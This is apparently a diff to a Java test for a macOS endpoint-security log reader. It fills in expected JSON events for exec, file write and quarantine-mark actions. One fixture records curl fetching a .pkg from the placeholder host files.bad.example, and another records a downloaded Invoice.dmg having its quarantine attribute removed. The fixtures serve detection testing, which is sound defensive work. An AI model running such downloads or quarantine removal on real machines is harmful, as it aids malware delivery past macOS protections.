@@ -23,17 +23,17 @@ class EndpointSecurityTest {
 
     private static final List<Story> STORIES = List.of(
             new Story("exec", EndpointSecurityFixtures.EXEC, """
-                    TODO"""),
+                    {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:951:2202","pid":951,"start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada","parent":{"entity_id":"mac-3.corp.example:700:1999","pid":700,"executable":"/bin/zsh"},"responsible":{"entity_id":"mac-3.corp.example:650:1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}"""),
             new Story("create", EndpointSecurityFixtures.CREATE, """
-                    TODO"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"create","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg.part","name":"Invoice.dmg.part","extension":"part"}}"""),
             new Story("rename", EndpointSecurityFixtures.RENAME, """
-                    TODO"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"rename","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","original_path":"/Users/ada/Downloads/Invoice.dmg.part"}}"""),
             new Story("close", EndpointSecurityFixtures.CLOSE, """
-                    TODO"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"close","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg"}}"""),
             new Story("setextattr", EndpointSecurityFixtures.SET_QUARANTINE, """
-                    TODO"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"setextattr","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","mark":"set"}}"""),
             new Story("deleteextattr", EndpointSecurityFixtures.DELETE_QUARANTINE, """
-                    TODO"""));
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"deleteextattr","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","mark":"removed"}}"""));
 
     private final Reader reader = new Reader();
 
@@ -53,7 +53,7 @@ class EndpointSecurityTest {
     void readsJamfProtectsTelemetryWithItsHostAndItsIdentities() {
         assertThat(Facts.of(reader.event(EndpointSecurityFixtures.jamf(EndpointSecurityFixtures.EXEC))))
                 .isEqualTo("""
-                TODO""");
+                {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec","dataset":"macos.jamf-protect"},"host":{"name":"mac-3.corp.example","hostname":"mac-3.corp.example","domain":"corp.example","id":"C02X","ip":["10.1.2.33"],"os":{"type":"macos"}},"user":{"id":"501"},"process":{"entity_id":"U-951-2202","pid":951,"start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada","parent":{"entity_id":"U-700-1999","pid":700,"executable":"/bin/zsh"},"responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}""");
     }
 
     @Test
